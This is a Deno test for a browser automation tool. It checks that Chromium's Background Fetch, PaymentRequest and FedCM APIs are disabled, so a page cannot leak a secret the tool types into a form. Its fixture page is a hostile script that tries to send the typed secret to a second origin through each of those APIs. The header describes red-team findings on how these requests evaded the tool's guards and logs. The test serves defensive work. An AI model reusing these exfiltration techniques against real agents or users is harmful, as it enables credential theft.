/**
 * Requests Chromium's browser process sends for a page are seen by no Fetch interception (red
 * team s15 #1, #2): Background Fetch took a bound secret and an undeclared POST past every
 * guard, PaymentRequest (a HEAD to its method URL) and FedCM (its config URL and
 * `/.well-known/web-identity`) took the secret to another origin, none of it in any log.
 * browxai starts Chromium with those APIs switched off (`cdp/chromium_args.ts`): the page
 * (and its service worker) finds none of them, and the other origin gets only the plain
 * request the page sends without the value (it ran, and could reach that server).
 */
import { assertEquals } from "./_assert.ts";
import { startWithBoundSecret } from "./_bound_secret.ts";
import { startTwoOrigins } from "./_two_origins.ts";
import { eventually } from "./_util.ts";

const SECRET = "Hunter2SecretXyz";

Deno.test("browser-sent requests: Background Fetch, PaymentRequest and FedCM are gone", async () => {
  const srv = startTwoOrigins((_a, b) => ({
    "/sw.js": `self.oninstall = () => self.skipWaiting();
self.onactivate = (e) => e.waitUntil(clients.claim());
self.onmessage = (e) => e.ports[0].postMessage(typeof registration.backgroundFetch);`,
    "/login": `<title>login</title><input id=pw><script>
const ready = navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready);
const out = [];
const attempt = async (name, f) => {
  try { await f(); out.push(name + ":sent"); } catch (e) { out.push(name + ":" + e.name); }
};
pw.addEventListener("input", async () => {
  const v = pw.value;
  if (v.length < ${SECRET.length}) return;
  const reg = await ready;
  out.push("sw-bgfetch:" + await new Promise((res) => {
    const c = new MessageChannel();
    c.port1.onmessage = (e) => res(e.data);
    reg.active.postMessage(0, [c.port2]);
  }));
  await attempt("bgfetch", () => reg.backgroundFetch.fetch("x", [
    "${b}/x/bg-get?tok=" + v,
    new Request("${b}/x/bg-post", { method: "POST", body: "tok=" + v }),
    new Request("/order", { method: "POST", body: "item=tv" }),
  ]));
  await attempt("payment", () => new PaymentRequest([{ supportedMethods: "${b}/x/pay?" + v }],
    { total: { label: "x", amount: { currency: "USD", value: "1" } } }).canMakePayment());
  await attempt("fedcm", () => navigator.credentials.get({ identity: { providers: [
    { configURL: "${b}/x/fedcm?" + v, clientId: "x" }] } }));
  await fetch("${b}/control", { mode: "no-cors" }).catch(() => {});
  document.title = "done " + out.join(" ");
});</script>`,
  }));
  const { mcp, close } = await startWithBoundSecret(srv.a, SECRET);
  try {
    await mcp.ok("navigate", { url: `${srv.a}/login`, snapshot: "none" });
    await mcp.ok("fill", { selector: "#pw", value: "{{secret:PW}}", snapshot: "none" });
    const title = await eventually(
      async () => {
        const t = String((await mcp.ok("get_url")).title);
        return t.startsWith("done") && t;
      },
      20_000,
      "the page's attempts",
    );
    // Each API is missing where the page looks for it (a TypeError on `undefined.fetch`, a
    // ReferenceError for PaymentRequest, FedCM "not supported"), in the worker as well.
    assertEquals(
      title,
      "done sw-bgfetch:undefined bgfetch:TypeError payment:ReferenceError fedcm:NotSupportedError",
    );
    // The page's plain request reached B: B was there to receive, and got nothing else.
    await eventually(() => srv.seen("B").includes("GET /control"), 10_000, "the control fetch");
    assertEquals(srv.seen("B"), ["GET /control"]);
    assertEquals(srv.hits.filter((h) => h.method === "POST"), [], "no undeclared POST went");
  } finally {
    await close();
    await srv.close();
  }
});
